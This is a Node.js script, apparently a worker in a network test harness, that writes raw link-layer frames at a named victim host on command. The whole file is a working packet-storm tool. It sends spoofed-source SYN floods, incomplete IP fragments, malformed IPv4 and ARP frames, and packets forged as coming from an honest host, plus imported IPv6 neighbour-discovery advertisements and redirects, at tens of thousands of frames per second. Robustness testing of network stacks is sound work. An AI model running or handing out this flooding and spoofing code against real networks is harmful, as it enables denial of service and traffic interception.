// Puts frames on a link that no honest host would send, from the kernel's side (packet(7)): `count` of them, about `rate` a second. Begins at the command `go`.
// Options: { name, kind: "malformed" | "syn" | "fragment", or "advertisement" | "solicitation" | "redirect" with addresses of IPv6, count, rate?, limit?, to, source, destination, port, seed? }: the interface, the
// MAC address of the victim, an honest host's address, the victim's address and its open port. Ends after `limit` milliseconds at the latest.
import { networkInterfaces } from "node:os";
import koffi from "koffi";
import { discoveryFrames } from "./discovery-frames.mjs";
import { onCommand, options, tell } from "./protocol.mjs";

const {
  name,
  kind,
  count,
  rate = 20_000,
  limit = 60_000,
  to,
  source,
  destination,
  port,
  seed = 1,
} = options();

const library = koffi.load(null);
const socket = library.func("int socket(int, int, int)");
const bind = library.func("int bind(int, void*, uint32_t)");
const send = library.func("intptr_t send(int, void*, size_t, int)");
const interfaceNumber = library.func("uint32_t if_nametoindex(const char*)");

const AF_PACKET = 17;
const SOCK_RAW = 3;
const SOCK_NONBLOCK = 0o4000;

/** An AF_PACKET socket that sends only: protocol 0 receives nothing. */
function open() {
  const descriptor = socket(AF_PACKET, SOCK_RAW | SOCK_NONBLOCK, 0);
  const address = new Uint8Array(20);
  new Uint16Array(address.buffer)[0] = AF_PACKET;
  new Int32Array(address.buffer)[1] = interfaceNumber(name);
  if (descriptor < 0 || bind(descriptor, address, 20) < 0) throw new Error(`packet socket: ${koffi.errno()}`);
  return descriptor;
}

let state = seed | 0 || 1;
/** Thirty-two bits of xorshift. */
function random() {
  state ^= state << 13;
  state ^= state >>> 17;
  state ^= state << 5;
  return state >>> 0;
}

const frame = new Uint8Array(1514);
const view = new DataView(frame.buffer);
const octetsOf = (text, radix, separator) =>
  text.split(separator).map((part) => Number.parseInt(part, radix));
const macs = [octetsOf(to, 16, ":"), octetsOf(networkInterfaces()[name][0].mac, 16, ":")];
const ethernet = [...macs.flat(), 8, 0];
const ours = octetsOf(destination, 10, ".");
const theirs = octetsOf(source, 10, ".");

/** The Internet checksum of `frame[from, to)`. */
function checksum(from, end, start = 0) {
  let sum = start;
  for (let at = from; at < end; at += 2) sum += at + 1 < end ? view.getUint16(at) : frame[at] << 8;
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  return ~sum & 0xffff;
}

/** An IPv4 header at 14 for `octets` of payload at 34. @returns the length of the frame */
function ipv4(protocol, from, octets, identification, flagsAndOffset) {
  frame.set(ethernet);
  frame.set([0x45, 0], 14);
  view.setUint16(16, 20 + octets);
  view.setUint16(18, identification);
  view.setUint16(20, flagsAndOffset);
  frame.set([64, protocol, 0, 0, ...from, ...ours], 22);
  view.setUint16(24, checksum(14, 34));
  return 34 + octets;
}

/** A host of 198.18.0.0/15, the range for tests (RFC 2544). */
function stranger() {
  const bits = random();
  return [198, 18 + (bits & 1), (bits >>> 8) & 255, (bits >>> 16) & 255];
}

function syn() {
  const from = stranger();
  const length = ipv4(6, from, 24, 0, 0x4000);
  view.setUint16(34, 1024 + (random() % 60_000));
  view.setUint16(36, port);
  view.setUint32(38, random());
  view.setUint32(42, 0);
  frame.set([0x60, 2, 0xff, 0xff, 0, 0, 0, 0, 2, 4, 5, 0xb4], 46);
  let pseudo = 6 + 24;
  for (const address of [from, ours]) {
    pseudo += (address[0] << 8) + address[1] + (address[2] << 8) + address[3];
  }
  view.setUint16(50, checksum(34, 58, pseudo));
  return length;
}

/** A piece of a datagram whose other pieces never come: half of them first pieces, a quarter from one host. */
function fragment(i) {
  const from = i % 4 === 0 ? theirs : stranger();
  const offset = i % 2 === 0 ? 0 : random() % 8000;
  return ipv4(17, from, 8 * (1 + (random() % 180)), i & 0xffff, 0x2000 | offset);
}

/** Octets at random behind a right start, or a right packet with one thing wrong. */
function malformed(i) {
  const octets = 8 + (random() % 1400);
  for (let at = 14; at < 34 + octets; at += 4) view.setUint32(at, random());
  const protocol = [1, 6, 17, random() & 255][i & 3];
  const length = ipv4(protocol, i % 3 === 0 ? theirs : stranger(), octets, i & 0xffff, 0);
  switch (i % 10) {
    case 0:
      frame[14] = random();
      break;
    case 1:
      view.setUint16(16, random());
      break;
    case 2:
      view.setUint16(24, random());
      return length;
    case 3:
      // Options, of random octets.
      frame[14] = 0x46 + (random() % 10);
      break;
    case 4:
      return 14 + (random() % 20);
    case 5:
      view.setUint16(12, random());
      return length;
    case 6:
      // ARP of random octets behind the right formats.
      frame.set([8, 6, 0, 1, 8, 0, 6, 4, 0, 1 + (random() & 1)], 12);
      return 14 + (random() % 60);
    default:
  }
  view.setUint16(24, 0);
  const header = 14 + (frame[14] & 15) * 4;
  if (header <= length) view.setUint16(24, checksum(14, header));
  return length;
}

const makers = destination.includes(":")
  ? discoveryFrames({ frame, random, checksum, to: macs[0], from: macs[1], source, destination })
  : { malformed, syn, fragment };
const make = makers[kind];
const descriptor = open();
let began = 0;
let turnedAt = 0;
let sent = 0;

/** Frames for the time since the last turn, but no more than of 10 ms: a late turn makes up for nothing, or it would be a burst. */
function turn() {
  const now = performance.now();
  const due = Math.min(count, sent + Math.ceil((Math.min(now - turnedAt, 10) * rate) / 1000));
  turnedAt = now;
  // The interface may have no room: the same frame is due again in the next turn.
  while (sent < due && send(descriptor, frame, make(sent), 0) >= 0) sent++;
  if (sent < count && now - began < limit) setTimeout(turn, 1);
  else tell("done", { sent, milliseconds: performance.now() - began });
}

// Starting a process takes the time of others: the storm is a word away when it is ready.
onCommand((command) => {
  if (command !== "go") return;
  began = performance.now();
  turnedAt = began;
  turn();
});
tell("ready");
